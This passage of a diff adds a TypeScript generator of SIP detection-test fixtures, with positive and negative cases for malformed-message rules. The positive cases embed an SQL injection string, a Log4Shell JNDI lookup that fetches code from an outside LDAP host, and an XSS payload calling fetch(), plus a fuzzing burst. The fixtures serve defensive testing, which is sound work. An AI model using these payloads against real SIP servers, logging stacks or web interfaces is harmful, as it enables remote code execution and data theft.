+      base(f, src, { from: { user: '4040', host: DOMAIN, display: 'Sales 100% Team', tag: 'p1' } }),
+      PROXY,
+      c.us,
+    );
+    f.request(
+      base(f, src, { method: 'OPTIONS', userAgent: 'Acme-Phone/2.0 (50%-rebate edition)' }),
+      PROXY,
+      c.advanceMs(100),
+    );
+    f.write('malformed/SIP-MAL-04/negative/percent-in-display-name.jsonl');
+  }
+  writeEvents('malformed/SIP-MAL-04/negative/testbed-frag-3kb-sdp-real.jsonl', realFrag);
+
+  // SIP-MAL-05 --------------------------------------------------------------------------------
+  {
+    const f = new Fixture(new Rand(1701));
+    const c = Clock.at('2026-11-20T06:50:00Z');
+    const src: Endpoint = { ip: '203.0.113.160', port: 5060 };
+    f.request(
+      base(f, src, {
+        method: 'REGISTER',
+        ruri: `sip:${DOMAIN}`,
+        from: { user: '1001', host: DOMAIN, display: "' OR '1'='1' --", tag: 'q1' },
+        to: { user: '1001', host: DOMAIN },
+      }),
+      REGISTRAR,
+      c.us,
+    );
+    f.write('malformed/SIP-MAL-05/positive/sqli-in-from-display.jsonl');
+  }
+  {
+    const f = new Fixture(new Rand(1702));
+    const c = Clock.at('2026-11-20T06:51:00Z');
+    const src: Endpoint = { ip: '203.0.113.161', port: 5060 };
+    f.request(base(f, src, { method: 'OPTIONS', userAgent: '${jndi:ldap://203.0.113.161:1389/Exploit}' }), PROXY, c.us);
+    f.write('malformed/SIP-MAL-05/positive/log4shell-user-agent.jsonl');
+  }
+  {
+    const f = new Fixture(new Rand(1703));
+    const c = Clock.at('2026-11-20T06:52:00Z');
+    const src: Endpoint = { ip: '203.0.113.162', port: 5060 };
+    f.request(
+      base(f, src, {
+        from: { user: '2000', host: src.ip, display: "<script>fetch('//203.0.113.162/c')</script>", tag: 'x1' },
+      }),
+      PROXY,
+      c.us,
+    );
+    f.write('malformed/SIP-MAL-05/positive/xss-in-caller-name.jsonl');
+  }
+  {
+    // O'Brien, dial strings with * and #, a UUID Call-ID and a hyphenated UA: no payload.
+    const f = new Fixture(new Rand(1704));
+    const c = Clock.at('2026-11-20T18:40:00Z');
+    const src: Endpoint = { ip: '10.77.4.50', port: 5060 };
+    f.request(
+      base(f, src, {
+        from: { user: '3050', host: DOMAIN, display: "Seán O'Brien", tag: 'o1' },
+        to: { user: '*72#1001', host: DOMAIN },
+        ruri: `sip:*72#1001@${DOMAIN}`,
+        callId: '3f2b8c1e-9d4a-4e6f-b1a2-7c5d0e9f8a6b',
+        userAgent: "Grandstream GXP2170 1.0.11.23 (O'Brien-test)",
+      }),
+      PROXY,
+      c.us,
+    );
+    f.request(
+      base(f, src, {
+        method: 'MESSAGE',
+        from: { user: '3050', host: DOMAIN, display: 'Dev & Ops', tag: 'o2' },
+        body: { type: 'text/plain', text: "SELECT 'lunch' FROM menu; -- can't wait" },
+      }),
+      PROXY,
+      c.advanceMs(1000),
+    );
+    f.write('malformed/SIP-MAL-05/negative/obrien-and-dial-strings.jsonl');
+  }
+  writeEvents('malformed/SIP-MAL-05/negative/testbed-udp-real.jsonl', realUdp);
+
+  // SIP-MAL-06 --------------------------------------------------------------------------------
+  {
+    // A fuzzer (PROTOS c07-sip / Voiper style): 40 broken messages of varied kinds in 8 s.
+    const f = new Fixture(new Rand(1801));
+    const c = Clock.at('2026-11-20T07:00:00Z');
+    const src: Endpoint = { ip: '203.0.113.170', port: 5060 };
+    const mutations: Array<Partial<RequestSpec>> = [
+      { omit: ['Call-ID'] },
+      { cseqMethod: 'BYE' },
+      { contentLength: 999, body: { type: 'text/plain', text: 'x' } },
+      { startLine: `INVITE sip:1001@${DOMAIN} SIP/1.7` },
+      { omit: ['From'] },
+      { maxForwards: -3 as number },
+      { extraHeaders: ['Expires: soon'] },
+      { ruri: `sip:${'%'.repeat(300)}@${DOMAIN}` },
+    ];
+    for (let i = 0; i < 40; i++) {
+      f.request(
+        base(f, src, {
+          ...(mutations[i % mutations.length] ?? {}),
+          ruri: mutations[i % mutations.length]?.ruri ?? `sip:tester@${DOMAIN}`,
+        }),
+        PROXY,
+        c.us,
+      );
+      c.advanceMs(200);
+    }
+    f.write('malformed/SIP-MAL-06/positive/fuzzing-burst.jsonl');
+  }
+  {
+    // One broken phone: every REGISTER refresh declares a wrong Content-Length, once a minute.
+    const f = new Fixture(new Rand(1802));
+    const c = Clock.at('2026-11-20T19:00:00Z');
+    const src: Endpoint = { ip: '10.77.4.60', port: 5060 };
+    for (let i = 0; i < 20; i++) {
+      f.request(
+        base(f, src, {
+          method: 'REGISTER',
+          ruri: `sip:${DOMAIN}`,
+          callId: 'broken01@10.77.4.60',
+          cseq: 1 + i,
+          body: { type: 'text/plain', text: '' },
+          contentLength: 4,
+          expires: 60,
+        }),
+        REGISTRAR,
+        c.us,
+      );
+      c.advanceMs(60000);
+    }
+    f.write('malformed/SIP-MAL-06/negative/one-broken-phone-slow.jsonl');
+  }
+  writeEvents('malformed/SIP-MAL-06/negative/testbed-udp-real.jsonl', realUdp);
+}
+
+async function main(): Promise<void> {
+  const realUdp = await decodeCapture('udp.pcap');
+  const realFrag = await decodeCapture('frag.pcap');
+  recon(realUdp);
+  auth(realUdp);
+  dos(realUdp);
+  malformed(realUdp, realFrag);
+  for (const line of written) process.stdout.write(`${line}\n`);
+}
+
+main().catch((error: unknown) => {
+  process.stderr.write(`${error instanceof Error ? (error.stack ?? error.message) : String(error)}\n`);
+  process.exit(1);
+});
